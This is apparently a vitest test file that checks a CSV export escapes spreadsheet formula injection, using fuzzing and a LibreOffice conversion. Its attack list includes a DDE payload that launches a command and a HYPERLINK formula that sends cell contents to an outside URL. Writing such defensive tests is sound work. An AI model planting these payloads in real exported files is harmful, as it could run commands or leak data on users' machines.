import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { harmlessCell, writtenCell } from '../../../../electron/publish/csv/harmless-cell.ts';
import { writeCsv } from '../../../../electron/publish/csv/write-csv.ts';
import { csvRows } from '../../../../electron/services/tracker/csv-rows.ts';
import { decodeTable } from '../../../../electron/services/tracker/decode-table.ts';
import { hasSoffice } from '../../../builders/office-tools.ts';
import { scratchFolder } from '../../../builders/scratch-folder.ts';

const attacks = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org/?"&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '"=1+1',
  "'=1+1",
  '“=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1+1',
  '−1',
  "''=1+1",
];

const textOf = (bytes: Uint8Array): string => {
  const decoded = decodeTable(bytes);
  if (decoded.refusal !== null) throw new Error(decoded.refusal);
  return decoded.text;
};
/** By our own import. */
const readBack = (bytes: Uint8Array): string[][] =>
  [...csvRows(textOf(bytes), ',')].map(({ cells }) => cells.map(writtenCell));

describe('security S35: no cell is a formula', () => {
  it.each(attacks)('%j', (attack) => {
    expect(harmlessCell(attack)).toBe(`'${attack}`);
    expect(writtenCell(harmlessCell(attack))).toBe(attack);
  });

  it('leaves plain words as they are', () => {
    for (const words of [
      'To report',
      '2/3 of pupils',
      'a = b',
      "'quoted'",
      '',
      '£48,250',
      "o'clock",
    ])
      expect(harmlessCell(words)).toBe(words);
  });

  it('whatever stands in the cells: nothing begins as a formula, and all of it comes back to the letter', () => {
    const sign = fc.constantFrom(...Array.from('=+-@\t\r\n"\'`,; \u00a0\u200b＝＋ab'));
    const cell = fc
      .oneof(
        fc.string({ unit: sign, maxLength: 8 }),
        fc.string({ maxLength: 20 }),
        fc.constantFrom(...attacks),
      )
      .map((text) => text.replaceAll('\0', ''));
    const table = fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), {
      minLength: 1,
      maxLength: 5,
    });
    fc.assert(
      fc.property(table, (rows) => {
        const bytes = writeCsv(['One', 'Two'], rows);
        expect(readBack(bytes)).toEqual([['One', 'Two'], ...rows]);
        // as a spreadsheet reads it: by another reader, without our own way back
        const seen = Papa.parse<string[]>(new TextDecoder().decode(bytes), {
          newline: '\r\n',
        }).data;
        for (const text of seen.flat()) expect(text).toMatch(/^'|^(?![\s"]*[=+\-@＝＋－＠])/u);
      }),
      { numRuns: 300 },
    );
  });
});

it('writes RFC 4180 with a mark at the front, every cell in quotes', () => {
  const bytes = writeCsv(['a', 'b'], [['say "no"', 'x;=1+1\0']]);
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(textOf(bytes)).toBe('"a","b"\r\n"say ""no""","x;=1+1"\r\n');
});

describe('read by LibreOffice', () => {
  it.skipIf(!hasSoffice)(
    'every cell is text, and none is reckoned',
    ({ skip }) => {
      const scratch = scratchFolder();
      const path = scratch.put(
        'attack.csv',
        writeCsv(
          ['Attack'],
          attacks.map((text) => [text]),
        ),
      );
      execFileSync('soffice', [
        '--headless',
        `-env:UserInstallation=file://${scratch.path}/office`,
        '--convert-to',
        'fods',
        '--outdir',
        scratch.path,
        path,
      ]);
      const made = `${scratch.path}/attack.fods`;
      // an office without its spreadsheet part opens no table
      if (!existsSync(made)) skip('LibreOffice is here without Calc');
      const sheet = readFileSync(made, 'utf8');
      expect(sheet).toContain('cmd|');
      expect(sheet).not.toContain('table:formula');
      scratch.remove();
    },
    180_000,
  );
});
